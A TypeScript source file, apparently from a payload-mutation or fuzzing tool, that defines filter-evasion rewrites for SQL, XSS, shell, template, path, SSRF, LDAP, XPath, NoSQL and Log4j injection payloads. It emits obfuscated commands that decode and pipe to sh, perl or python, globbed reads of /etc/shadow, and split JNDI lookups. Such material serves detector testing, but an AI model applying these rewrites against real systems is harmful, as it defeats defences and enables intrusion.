import type { Draw } from '../draw.ts';
import { randomCase, swap } from '../rewriting.ts';
import { type Rewrite, rewritesOf } from '../second/rewrite.ts';

const sql = rewritesOf(['sqli']);
const html = rewritesOf(['xss']);
const template = rewritesOf(['ssti', 'expression']);
const code = rewritesOf(['code-injection']);
const path = rewritesOf(['path-traversal']);
const address = rewritesOf(['ssrf']);
const directory = rewritesOf(['ldapi']);
const tree = rewritesOf(['xpathi']);
const loose = rewritesOf(['nosql-text']);

const hex = (text: string): string => Buffer.from(text).toString('hex');
const octal = (text: string): string => Array.from(text, (sign) => `\\${sign.charCodeAt(0).toString(8).padStart(3, '0')}`).join('');
/** Blanks outside of quotes. */
const blanks = (text: string, by: () => string): string | null =>
  swap(text, /('[^']*')| /g, (match, quoted?: string) => quoted ?? (match === ' ' ? by() : match));
const TRUE_OF_NUMBERS = /\b(\d)\s*=\s*\1\b/;

const SQL: readonly Rewrite[] = [
  sql('condition on JSON', 'MySQL, SQLite', (t) => swap(t, TRUE_OF_NUMBERS, "json_extract('{\"a\":[0,5]}','$.a[1]')>4")),
  sql('condition by a function', 'MySQL', (t, draw) =>
    swap(t, TRUE_OF_NUMBERS, () =>
      draw.of([
        'strcmp(3,3)=0',
        'greatest(3,5)=5',
        '5 div 5',
        "'a' sounds like 'a'",
        'isnull(null)',
        'nullif(1,2)',
        'coalesce(null,8)<=>8',
      ]),
    ),
  ),
  sql('condition of rows', 'MySQL, PostgreSQL', (t) => swap(t, TRUE_OF_NUMBERS, 'row($1,2)=row($1,2)')),
  sql('equality as a pattern', 'MySQL', (t) => swap(t, /'(\w+)'\s*=\s*'\1'/, "'$1' regexp binary'^$1'")),
  sql('equality by a null-safe sign', 'MySQL', (t) => swap(t, /(?<=[\w')]) ?= ?(?=[\w'(])/, '<=>')),
  sql('union of a list of values', 'MySQL 8, PostgreSQL', (t) =>
    swap(t, /union(?: all)? select ([^()\s#-]+)(?=$|--|#| )/i, 'union values row($1)'),
  ),
  sql('other words after union', 'MySQL', (t, draw) =>
    swap(t, /\bunion (?:all )?select\b/i, () =>
      draw
        .of(['union distinctrow select', 'union distinct select sql_cache', 'union all select straight_join', 'union(select high_priority'])
        .replace('(', ' '),
    ),
  ),
  sql('commas left out of functions', 'MySQL', (t) =>
    swap(t, /\b(?:substring|substr|mid)\(((?:[^(),]|\([^()]*\))+),(\d+),(\d+)\)/gi, 'substring($1 from $2 for $3)'),
  ),
  sql('limit by offset', 'MySQL, PostgreSQL', (t) => swap(t, /\blimit (\d+),(\d+)/gi, 'limit $2 offset $1')),
  sql('dots and numbers before names', 'MySQL', (t) => swap(t, /\b(from|join)\s+([a-z_]+)\b(?!\()/gi, '$1.9.$2')),
  sql('names in double quotes', 'PostgreSQL, Oracle', (t) => swap(t, /\b(from|join)\s+([a-z_]+)\b(?!\()/gi, '$1"$2"')),
  sql('names in escapes of unicode', 'PostgreSQL', (t) =>
    swap(t, /\b(from|join)\s+([a-z])([a-z_]+)\b(?!\()/gi, (_, word, first, rest) => `${word} U&"\\00${hex(first)}${rest}"`),
  ),
  sql('quotes of Oracle', 'Oracle', (t, draw) =>
    swap(t, /'(\w{2,})'/g, (_, inner) =>
      `q'${draw.of(['[', '{', '<'])}${inner}'`.replace(
        /([[{<])(\w+)'$/,
        (_all, open, word) => `${open}${word}${open === '[' ? ']' : open === '{' ? '}' : '>'}'`,
      ),
    ),
  ),
  sql('the statement in hex', 'SQL Server', (t) => {
    const match = /;\s*((?:exec|waitfor|drop|insert|update|declare)[^;]+?)(?:--|$)/i.exec(t);
    return match === null ? null : `${t.slice(0, match.index)};declare @z varchar(500)=0x${hex(match[1]!)};exec(@z)--`;
  }),
  sql('control bytes and comments for blanks', 'MySQL', (t, draw) =>
    blanks(t, () => draw.of(['/*\n*/', '/*!*/', '\v', '/*;%00*/', '--\n', '#!\n'])),
  ),
  sql('a comment at the start of each word', 'MySQL', (t) => swap(t, /\b(select|from|where|and|or|union)\b/gi, '/*!00000$1*/')),
  sql('comments that a program removes', 'programs that remove comments', (t) =>
    swap(t, /\b(un|sel|fr|wh)(ion|ect|om|ere)\b/gi, '$1/**/$2'),
  ),
  sql('signs of the best fit', 'SQL Server, programs in Windows code pages', (t) => swap(t, /'/g, '\u02bc')),
];

const ALERT = /\balert\(1\)/;
const jsLetters: Readonly<Record<string, string>> = {
  a: '(![]+[])[+!+[]]',
  l: '(![]+[])[!+[]+!+[]]',
  e: '(!![]+[])[!+[]+!+[]+!+[]]',
  r: '(!![]+[])[+!+[]]',
  t: '(!![]+[])[+[]]',
};

const HTML: readonly Rewrite[] = [
  html('letters of truth values', 'browsers', (t) =>
    swap(t, ALERT, `self[${Array.from('alert', (sign) => jsLetters[sign]).join('+')}](+!+[])`),
  ),
  html('a number of base 36', 'browsers', (t) =>
    swap(t, ALERT, 'globalThis[(10).toString(36)+(21).toString(36)+(0xe).toString(0x24)+(27).toString(36)+(29).toString(36)](1)'),
  ),
  html('codes of signs', 'browsers', (t) => swap(t, ALERT, 'parent[String.fromCodePoint(97,108,101,114,116)](1)')),
  html('octal text as a name', 'browsers', (t) => swap(t, ALERT, `top["${octal('alert')}"](1)`)),
  html('raw template with escapes', 'browsers', (t) => swap(t, ALERT, 'Function("a\\u006cert\\x281)")``')),
  html('text unescaped', 'browsers', (t) => swap(t, ALERT, "eval(unescape('%61%6c%65%72%74%28%31%29'))")),
  html('destructured', 'browsers', (t) => swap(t, ALERT, "{let{['ale'+'rt']:q}=window;q(1)}")),
  html('getter', 'browsers', (t) => swap(t, ALERT, '({get a(){return alert}}).a(1)')),
  html('spread and default', 'browsers', (t) => swap(t, ALERT, '((a=alert)=>a(...[1]))()')),
  html('instance of', 'browsers', (t) => swap(t, ALERT, "'alert\\x281)'instanceof{[Symbol.hasInstance]:eval}")),
  html('label and comment', 'browsers', (t) => swap(t, ALERT, 'x:/*\n*/window/**/./**/alert/**/(1)')),
  html('line separators for blanks', 'browsers', (t) => swap(t, /(?<=["'=])alert\(1\)/, '\u2028alert\u2029(1)')),
  html('names of letters far away', 'browsers', (t) => swap(t, ALERT, 'ª=alert,ª(1)')),
  html('entities of all kinds', 'browsers', (t, draw) =>
    swap(t, ALERT, () =>
      Array.from('alert(1)', (sign) => draw.of([`&#${sign.charCodeAt(0)};`, `&#x${hex(sign)};`, `&#0${sign.charCodeAt(0)};`, sign])).join(
        '',
      ),
    ),
  ),
  html('attributes twice', 'browsers', (t) => swap(t, /<(\w+) (on\w+)=/, '<$1 $2=alert(1) x=1 $2=')),
  html('a solidus in the attribute name', 'browsers', (t) => swap(t, /<(\w+) /, '<$1/x=//')),
  html('control signs in the tag', 'browsers', (t, draw) => swap(t, /(?<=<[a-z]\w*) /gi, () => draw.of(['\t/\n', '/\f/', '\r\n\t']))),
  html('a name of the namespace', 'browsers', (t) => swap(t, /<svg>/, '<svg xmlns:x="&#0;" x:y>')),
];

const at = (text: string, pattern: RegExp, by: (inner: string) => string | null): string | null => {
  const inner = pattern.exec(text)?.[1];
  return inner === undefined ? null : by(inner);
};
/** The one command line after a separator. */
const commandLine = /^[;&|\n]+\s*([^;&|%\n]+)$/;
/** One of plain words only. */
const plainWords = /^[;&|\n]+\s*([\w ./:=-]+)$/;
const shell = rewritesOf(['cmdi']);

const SHELL: readonly Rewrite[] = [
  shell('octal texts', 'bash', (t) =>
    at(t, plainWords, (inner) => `;$'${octal(inner.split(' ')[0]!)}' ${inner.split(' ').slice(1).join(' ')}`),
  ),
  shell('a word out of a replaced one', 'bash', (t) => swap(t, /(?<=^[;&|\n]+)(\w)(\w+)/, (_, a, rest) => `z=${a}@@${rest};\${z/@@/}`)),
  shell('words of an array', 'bash', (t) => at(t, plainWords, (inner) => `;c=(${inner});"\${c[@]}"`)),
  shell('words of a variable', 'bash', (t) => at(t, plainWords, (inner) => `;IFS=+;c=${inner.replaceAll(' ', '+')};$c`)),
  shell('solidus cut out of a path', 'bash', (t) => swap(t, /\/(?=(?:etc|tmp|bin|dev|proc|srv)\b)/g, '${PWD%%[!/]*}')),
  shell('base64 by a here text to a shell', 'GNU', (t) =>
    at(t, commandLine, (inner) => `|base64 -d<<<${Buffer.from(inner).toString('base64')}|tee >(sh)`),
  ),
  shell('hex by perl', 'perl', (t) => at(t, commandLine, (inner) => `;perl -e 'system pack"H*","${hex(inner)}"'`)),
  shell('text by python', 'python', (t) =>
    at(t, commandLine, (inner) => `;python3 -c "import os;os.system(bytes.fromhex('${hex(inner)}').decode())"`),
  ),
  shell('backwards', 'bash', (t) =>
    at(t, commandLine, (inner) => `;rev<<<'${Array.from(inner.replaceAll("'", '')).reverse().join('')}'|sh`),
  ),
  shell('rotated letters', 'sh', (t) =>
    at(t, commandLine, (inner) =>
      /[^a-z0-9 ./-]/.test(inner)
        ? null
        : `;echo ${inner.replace(/[a-z]/g, (sign) => String.fromCharCode(((sign.charCodeAt(0) - 84) % 26) + 97))}|tr a-z n-za-m|sh`,
    ),
  ),
  shell('starred paths', 'sh', (t) => swap(t, /\/etc\/(?:passwd|shadow|hosts|group)/g, '/???/[gph]*[dpsw]')),
  shell('quotes, backslashes and variables', 'bash', (t, draw) =>
    swap(t, /\b(?:cat|curl|wget|id|sleep|nslookup|ls)\b/, (word) => Array.from(word).join(draw.of(['""', "''", '\\', '$*', '${x}', '``']))),
  ),
  shell('through another program', 'Linux', (t, draw) =>
    swap(t, /(?<=^[;&|]+ ?)(?=[a-z])/, () =>
      draw.of(['busybox ', 'nice ', 'command ', 'stdbuf -o0 ', 'setsid ', 'exec ', 'builtin eval ']),
    ),
  ),
  shell('a line end in escapes', 'programs that decode again', (t) => swap(t, /^[;&|]+/, '%0a')),
];

const pieces = (word: string): string => `'${word.slice(0, 3)}'~'${word.slice(3)}'`;

const PROGRAMS: readonly Rewrite[] = [
  template('attributes by the filter', 'Jinja2', (t) => swap(t, /\.(__\w+__)/g, "|attr('$1')")),
  template('attributes joined of parts', 'Jinja2', (t) => swap(t, /\.__(\w+)__/g, "|attr(['_'*2,'$1','_'*2]|join)")),
  template('attributes formatted', 'Jinja2', (t) => swap(t, /\.__(\w+)__/g, "|attr('%s%s%s'|format('__','$1','__'))")),
  template('attributes backwards', 'Jinja2', (t) =>
    swap(
      t,
      /\.(__\w+__)/g,
      (_, name) =>
        `|attr('${Array.from(name as string)
          .reverse()
          .join('')}'|reverse)`,
    ),
  ),
  template('names from the request', 'Jinja2 in Flask', (t) => swap(t, /\.(__\w+__|popen)/g, '|attr(request.cookies.a)')),
  template('texts joined', 'Jinja2, Twig', (t) => swap(t, /'(system|passthru|popen|filter)'/g, (_, word) => pieces(word as string))),
  template('texts joined in Java', 'SpEL, OGNL', (t) =>
    swap(t, /'(java[\w.]+)'/g, (_, word) => `'${(word as string).slice(0, 5)}'+'${(word as string).slice(5)}'`),
  ),
  template('names by codes of signs', 'SpEL', (t) => {
    const codes = (word: string): string => Array.from(word, (sign) => `T(Character).toString(${sign.charCodeAt(0)})`).join('.concat(');
    return /\bT\(/.test(t) ? swap(t, /'(id|java[\w.]+)'/, (_, word) => codes(word!) + ')'.repeat(word!.length - 1)) : null;
  }),
  template('escapes of unicode in names', 'Java compilers, FreeMarker, OGNL', (t) =>
    swap(t, /Runtime|exec|getClass|forName/g, (word) => `\\u00${hex(word[0]!)}${word.slice(1)}`),
  ),
  template('a line and a comment after the opening', 'Jinja2, Twig, FreeMarker', (t) => swap(t, /^\{\{/, '{{-\n\t"x"~')),
  code('names out of codes', 'PHP', (t) =>
    swap(t, /\b(system|passthru|phpinfo|assert)\b(?=['(])/, (word) => Array.from(word, (sign) => `chr(${sign.charCodeAt(0)})`).join('.')),
  ),
  code('names in escapes of JavaScript', 'Node', (t) =>
    swap(t, /\b(require|process|constructor|Function|eval)\b/, (word) => `\\u{${hex(word[0]!)}}${word.slice(1)}`),
  ),
  code('members as joined texts', 'Node', (t) =>
    swap(
      t,
      /\.(mainModule|require|binding|runInThisContext|constructor)\b/g,
      (_, name) => `['${(name as string).slice(0, 4)}'+'${(name as string).slice(4)}']`,
    ),
  ),
  code('texts in octal', 'PHP, Node', (t) => swap(t, /'(\w{2,})'/g, (_, word) => `"${octal(word as string)}"`)),
  code('comments and lines between', 'PHP, Node', (t) => swap(t, /(?<=\w)\((?=['"`$])/g, '/*\n*/(\n')),
  path('a dot at the end of each name', 'Windows', (t) => swap(t, /\/(?=[a-z])/gi, '.\\')),
  path('names in short', 'Windows', (t) => swap(t, /\bwindows\b/i, 'WINDOW~1')),
  path('backslashes in escapes', 'programs that decode again on Windows', (t) => swap(t, /\.\.\//g, '..%5c')),
  path('back and forth', 'all', (t) => swap(t, /\/etc\//, '/etc/ssl/../init.d/../')),
  path('escapes of escapes', 'programs that decode twice more', (t) => swap(t, /\.\.\//g, '%25%32%65%25%32%65%25%32%66')),
  path('streams', 'Windows', (t) => (/(?:ini|config)$/.test(t) ? `${t}::$DATA` : null)),
  address('whole address escaped', 'programs that decode again', (t) => encodeURIComponent(t)),
  address('octets with many zeros', 'BSD and Linux resolvers', (t) => swap(t, /(?<=:\/\/)127\.(\d)/, '0000000177.$1')),
  address('one more name in the authority', 'parsers that differ', (t) => swap(t, /^(https?:\/\/)([^/]+)/, '$1bank.example:80;@$2')),
  address('line ends within', 'browsers, Node', (t) => swap(t, /^(\w{2})(\w+:\/)/, '$1\n$2')),
  directory('names as numbers', 'LDAP', (t) =>
    swap(t, /\b(?:cn|uid)=/g, (word) => (word === 'cn=' ? '2.5.4.3=' : '0.9.2342.19200300.100.1.1=')),
  ),
  directory('options after names', 'LDAP', (t) => swap(t, /\b(cn|uid|mail|sn)=/g, '$1;lang-en=')),
  tree('axes written out', 'XPath', (t) => swap(t, /\/\/(\w+)/g, '/descendant-or-self::node()/child::$1')),
  tree('numbers for truth', 'XPath', (t) => swap(t, /\bor '\w*'='\w*'/, 'or 8 div 4=2 and not(0)')),
  loose('escapes within', 'MongoDB', (t) => swap(t, /\bthis\b|\breturn\b/, (word) => `\\u00${hex(word[0]!)}${word.slice(1)}`)),
];

const LOOKUPS: readonly Rewrite[] = rewritesFor(['log4shell']);

function rewritesFor(classes: readonly string[]): Rewrite[] {
  const lookup = rewritesOf(classes);
  const letters = (text: string, by: (sign: string, draw: Draw) => string, draw: Draw): string | null =>
    swap(text, /(?<=\$\{)jndi(?=:)/, (word) => Array.from(word, (sign) => by(sign, draw)).join(''));
  return [
    lookup('letters as defaults of odd lookups', 'Log4j 2', (t, draw) =>
      letters(t, (sign, one) => `\${${one.of(['k8s', 'docker', 'spring', 'marker', 'ctx'])}:${one.chars('lower', 3)}:-${sign}}`, draw),
    ),
    lookup('letters in dates', 'Log4j 2', (t, draw) => letters(t, (sign) => `\${date:'${sign}'}`, draw)),
    lookup('letters in lookups within', 'Log4j 2', (t, draw) => letters(t, (sign) => `\${\${::-l}ower:${sign.toUpperCase()}}`, draw)),
    lookup('escapes of unicode', 'properties, JSON read again', (t) => swap(t, /\$\{/, '\\u0024\\u007b')),
    lookup('random case in a lower', 'Log4j 2', (t, draw) =>
      swap(t, /(?<=\$\{)jndi:(?:ldap|rmi|dns)/, (word) => `\${lower:${randomCase(word, draw)}}`),
    ),
  ];
}

/** Rewritings of this round by language; each says what still takes the changed text. */
export const REWRITES: readonly Rewrite[] = [...SQL, ...HTML, ...SHELL, ...PROGRAMS, ...LOOKUPS];
